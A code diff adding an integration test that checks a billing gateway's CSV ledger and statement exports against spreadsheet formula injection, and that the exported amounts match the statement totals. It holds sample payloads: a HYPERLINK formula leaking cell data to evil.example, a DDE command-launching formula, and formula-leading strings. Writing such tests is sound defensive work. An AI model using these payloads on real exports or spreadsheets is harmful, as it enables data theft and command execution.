@@ -7,6 +7,7 @@ import { READ_MODEL_SCHEMA } from '../../src/projections-runtime/consumer';
 import { rebuildProjections } from '../../src/projections-runtime/rebuild';
 import { startTestGateway, type TestGateway } from '../support/gateway';
 import { units } from '../support/pricing';
+import { column, readAsSpreadsheet, sum } from '../support/spreadsheet-csv';
 import { expectSettledAndAuditClean } from '../support/wait';
 
 type Entry = { sequence: number; type: string; amount: number; key_id: string | null; model: string | null; endpoint: string | null; request_id: string | null; task_id: string | null; pricing: any; reservation_id: string | null };
@@ -102,6 +103,42 @@ describe('ledger, usage and statements reconcile @integration', () => {
     expect(rows.at(-1)!.split(',').slice(-3, -1)).to.deep.equal([String(statement.closing_balance), (statement.closing_balance / 1e6).toFixed(6)]);
     expect(rows).to.have.length(1 + 1 + 1 + 4 + 1 + 1); // header, opening, credit, 4 charges, refund, closing
     await gw.expectAuditClean();
+  });
+
+  it('CSV exports: text a client or operator wrote runs nothing in a spreadsheet, and the amounts sum there to the totals', async () => {
+    const { accountId, key } = await gw.fundedAccount(1_000_000);
+    const reference = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
+    const note = "=cmd|' /C calc'!A0";
+    const credit = await gw.admin('POST', `/admin/v1/accounts/${accountId}/credits`, { amount: 500_000, reference, note });
+    expect(credit.status, JSON.stringify(credit.body)).to.equal(201);
+    const chat = await gw.api(key, 'POST', '/v1/chat/completions', { model: 'chat-fast', messages: [{ role: 'user', content: 'hi [sim:tokens=5]' }] }, { 'x-request-id': '-2-3' });
+    expect(chat.status, JSON.stringify(chat.body)).to.equal(200);
+    await expectSettledAndAuditClean(gw, [key]);
+    const [settlement] = await ledgerOf(key, '&type=settlement');
+    expect(settlement!.request_id).to.equal('-2-3');
+    const refund = await gw.admin('POST', `/admin/v1/accounts/${accountId}/refunds`, { reservation_id: settlement!.reservation_id, amount: 1, reference: '+1+1', reason: '@SUM(1+1)' });
+    expect(refund.status, JSON.stringify(refund.body)).to.equal(201);
+    const entries = await ledgerOf(key);
+
+    const ledger = readAsSpreadsheet((await gw.api(key, 'GET', '/v1/account/ledger?format=csv')).body as string);
+    expect(ledger.flat().filter((cell) => cell.kind === 'formula'), 'cells a spreadsheet would run').to.deep.equal([]);
+    expect(column(ledger, 'reference')).to.deep.include.members([{ kind: 'text', text: `'${reference}` }, { kind: 'text', text: "'+1+1" }]);
+    expect(column(ledger, 'request_id')).to.deep.include({ kind: 'text', text: "'-2-3" });
+    expect(ledger).to.have.length(entries.length + 1);
+    const total = entries.reduce((s, e) => s + e.amount, 0);
+    expect(sum(column(ledger, 'amount_minor'))).to.equal(total);
+    expect(sum(column(ledger, 'amount_yuan'))).to.be.closeTo(total / 1_000_000, 1e-9);
+
+    const month = (await gw.api(key, 'GET', '/v1/usage?group_by=day')).body.data[0].day.slice(0, 7);
+    const statement = (await gw.api(key, 'GET', `/v1/account/statements/${month}`)).body;
+    const sheet = readAsSpreadsheet((await gw.api(key, 'GET', `/v1/account/statements/${month}?format=csv`)).body as string);
+    expect(sheet.flat().filter((cell) => cell.kind === 'formula'), 'cells a spreadsheet would run').to.deep.equal([]);
+    expect(column(sheet, 'note')).to.deep.include.members([{ kind: 'text', text: `'${note}` }, { kind: 'text', text: "'@SUM(1+1)" }]);
+    const types = column(sheet, 'type');
+    const amountsOf = (type: string) => sum(column(sheet, 'amount_minor').filter((_, i) => types[i]!.kind === 'text' && types[i]!.text === type));
+    expect([amountsOf('credit'), amountsOf('charge'), amountsOf('refund')]).to.deep.equal([statement.credits, statement.charges.total, statement.refunds]);
+    expect(column(sheet, 'balance_minor').at(-1)).to.deep.equal({ kind: 'number', value: statement.closing_balance });
+    expect(column(sheet, 'balance_yuan').at(-1)).to.deep.equal({ kind: 'number', value: statement.closing_balance / 1_000_000 });
   });
 });
 
